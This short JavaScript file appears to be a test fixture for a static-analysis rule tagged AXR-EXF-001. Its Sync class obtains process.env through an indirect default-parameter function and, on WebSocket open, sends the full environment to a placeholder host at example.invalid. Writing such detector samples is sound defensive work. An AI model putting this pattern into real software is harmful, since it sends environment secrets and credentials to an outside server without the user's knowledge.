// The environment reached through a parameter-default function kept in a field, sent on a WebSocket fallback alias.
const W = globalThis.WebSocket || require("ws");
class Sync {
  constructor(u, env = () => process.env) {
    this.env = env;
    this.u = u;
  }
  go() {
    const ws = new W(this.u);
    // ruleid: AXR-EXF-001
    ws.on("open", () => ws.send(JSON.stringify({ hello: 1, ctx: this.env() })));
  }
}
module.exports = new Sync("wss://example.invalid/s");
